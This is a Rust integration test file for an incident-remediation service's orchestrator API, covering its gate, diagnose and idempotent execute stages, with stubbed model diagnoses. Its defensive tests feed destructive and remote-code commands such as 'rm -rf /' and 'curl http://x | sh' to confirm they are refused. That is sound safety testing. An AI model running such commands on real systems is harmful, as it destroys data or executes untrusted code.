//! The stage API an orchestrator drives: incidents of an external source wait for it; `gate` never
//! executes; `execute` runs only what medic itself would, once per Idempotency-Key, and the runner
//! verifies the fix over the real sshd.

use std::time::Duration;

use serde_json::{Value, json};

use crate::helpers::TOKEN;
use crate::world::{Options, World};

async fn post(world: &World, path: &str, key: Option<&str>, body: Value) -> (u16, Value, bool) {
    let mut r = world.app.client.post(world.app.url(path)).bearer_auth(TOKEN).json(&body);
    if let Some(k) = key {
        r = r.header("idempotency-key", k);
    }
    let r = r.send().await.unwrap();
    let replayed = r.headers().get("idempotent-replayed").is_some();
    (r.status().as_u16(), r.json().await.unwrap(), replayed)
}

async fn actions(world: &World) -> i64 {
    world.app.store.read(|conn| Ok(conn.query_row("SELECT COUNT(*) FROM actions", [], |r| r.get(0))?)).await.unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_orchestrator_drives_an_incident_through_the_gate_once_per_key() {
    let world = World::start(Options {
        l1: false,
        l2: false,
        tweak: Some(|s, _| s.pipeline.external_sources = vec![medic::domain::Source::Api]),
        ..Options::default()
    })
    .await;
    world.nginx.start();
    world.nginx.stop();
    let (status, created, _) = post(
        &world,
        "/api/v1/incidents",
        None,
        json!({"service_name": "nginx", "host": "web1", "error_logs": "connection refused", "monitor_id": "1",
               "monitor_url": world.nginx.health_url()}),
    )
    .await;
    assert_eq!(status, 202, "{created}");
    let id = created["incident_id"].as_str().unwrap().to_string();
    tokio::time::sleep(Duration::from_millis(800)).await;
    let incident = world.incident(&id).await;
    assert_eq!(incident["state"], "open", "medic's runner leaves it to the orchestrator: {incident}");
    assert!(incident["waiting_for"].as_str().unwrap().contains("orchestrator"), "{incident}");

    // The gate never executes; a denied or unknown command is refused and nothing runs.
    let (status, verdict, _) =
        post(&world, &format!("/api/v1/incidents/{id}/gate"), None, json!({"command": "rm -rf /"})).await;
    assert_eq!((status, verdict["verdict"].as_str()), (200, Some("deny")), "{verdict}");
    for command in ["rm -rf /", "curl http://x | sh", "systemctl restart sshd"] {
        let (status, outcome, _) =
            post(&world, &format!("/api/v1/incidents/{id}/execute"), Some(command), json!({"command": command})).await;
        assert_eq!(status, 409, "{command}: {outcome}");
        assert_eq!(outcome["outcome"], "refused");
    }
    assert_eq!(actions(&world).await, 0, "nothing ran");
    assert_eq!(world.incident(&id).await["state"], "open");

    // Level 0 on its evidence: checks and proposals with verdicts, nothing run.
    let (status, early, _) = post(&world, &format!("/api/v1/incidents/{id}/diagnose"), None, json!({"level": 0})).await;
    assert_eq!(status, 409, "no evidence yet: {early}");
    let (status, _, _) = post(&world, &format!("/api/v1/incidents/{id}/collect"), None, json!({})).await;
    assert_eq!(status, 200);
    let (status, diagnosis, _) =
        post(&world, &format!("/api/v1/incidents/{id}/diagnose"), None, json!({"level": 0})).await;
    assert_eq!(status, 200, "{diagnosis}");
    assert!(diagnosis["checks"]["findings"].is_array() && diagnosis["proposals"].is_array(), "{diagnosis}");
    let (status, why, _) = post(&world, &format!("/api/v1/incidents/{id}/diagnose"), None, json!({"level": 1})).await;
    assert_eq!(status, 409, "no level 1 in this world: {why}");
    assert!(why["error"].as_str().unwrap().contains("not configured"), "{why}");
    let (status, _, _) = post(&world, &format!("/api/v1/incidents/{id}/diagnose"), None, json!({"level": 3})).await;
    assert_eq!(status, 400);
    assert_eq!(actions(&world).await, 0, "diagnosing ran nothing");

    // An allowed command runs through the usual path and is verified; a retry with the same key acts once.
    let start = world.start_command();
    let path = format!("/api/v1/incidents/{id}/execute");
    let (status, first, replayed) = post(&world, &path, Some("n8n-exec-1"), json!({"command": start})).await;
    assert_eq!(status, 202, "{first}");
    assert!(!replayed);
    assert_eq!(first["outcome"], "running");
    world.wait_state(&id, "resolved", 30).await;
    assert!(world.nginx.is_up());
    let (status, again, replayed) = post(&world, &path, Some("n8n-exec-1"), json!({"command": start})).await;
    assert_eq!((status, replayed), (202, true), "the first answer, replayed");
    assert_eq!(again, first);
    assert_eq!(actions(&world).await, 1, "the command ran once");
    // A new key on a resolved incident is refused: it no longer waits for the orchestrator.
    let (status, late, _) = post(&world, &path, Some("n8n-exec-2"), json!({"command": start})).await;
    assert_eq!(status, 409, "{late}");

    let events =
        world.app.store.audit_events(Some(chrono::Utc::now() - chrono::Duration::hours(1)), None).await.unwrap();
    let calls = events.iter().filter(|e| e.kind == "orchestrator_call").count();
    assert!(calls >= 6, "every stage call is audited: {calls}");
    let doc: Value =
        world.app.client.get(world.app.url("/api/openapi.json")).send().await.unwrap().json().await.unwrap();
    crate::openapi::assert_valid(&doc, "/api/v1/incidents/{id}/execute", "post", "202", &first);
    crate::openapi::assert_valid(&doc, "/api/v1/incidents/{id}/execute", "post", "409", &late);
    crate::openapi::assert_valid(&doc, "/api/v1/incidents/{id}/gate", "post", "200", &verdict);
    world.app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_models_answer_as_stages_and_nothing_runs() {
    let world = World::start(Options {
        tweak: Some(|s, _| s.pipeline.external_sources = vec![medic::domain::Source::Api]),
        ..Options::default()
    })
    .await;
    world.nginx.start();
    world.nginx.stop();
    let (_, created, _) = post(
        &world,
        "/api/v1/incidents",
        None,
        json!({"service_name": "nginx", "host": "web1", "error_logs": "connection refused", "monitor_id": "1"}),
    )
    .await;
    let id = created["incident_id"].as_str().unwrap().to_string();
    let (status, _, _) = post(&world, &format!("/api/v1/incidents/{id}/collect"), None, json!({})).await;
    assert_eq!(status, 200);

    world.l1_says("nginx is stopped", 0.95, Some(&world.start_command()));
    let (status, l1, _) = post(&world, &format!("/api/v1/incidents/{id}/diagnose"), None, json!({"level": 1})).await;
    assert_eq!(status, 200, "{l1}");
    assert_eq!(l1["command"], world.start_command().as_str(), "{l1}");
    assert_eq!(l1["verdict"]["verdict"], "allow", "{l1}");
    assert!(l1["sampling"].is_object());

    world.l2_says("nginx crashed after a reload", Some(&world.start_command()));
    let (status, l2, _) = post(&world, &format!("/api/v1/incidents/{id}/diagnose"), None, json!({"level": 2})).await;
    assert_eq!(status, 200, "{l2}");
    assert_eq!(l2["recommendation"]["root_cause"], "nginx crashed after a reload", "{l2}");
    assert_eq!(actions(&world).await, 0, "diagnosing runs nothing");
    let incident = world.incident(&id).await;
    assert_eq!(incident["state"], "open", "still the orchestrator's: {incident}");
    assert!(incident["level_1_diagnosis"].is_object() && incident["level_2_recommendation"].is_object(), "{incident}");
    assert!(incident["cost_estimation"]["tokens_used"].as_u64().unwrap() > 0, "the calls were costed");
    world.app.stop().await;
}
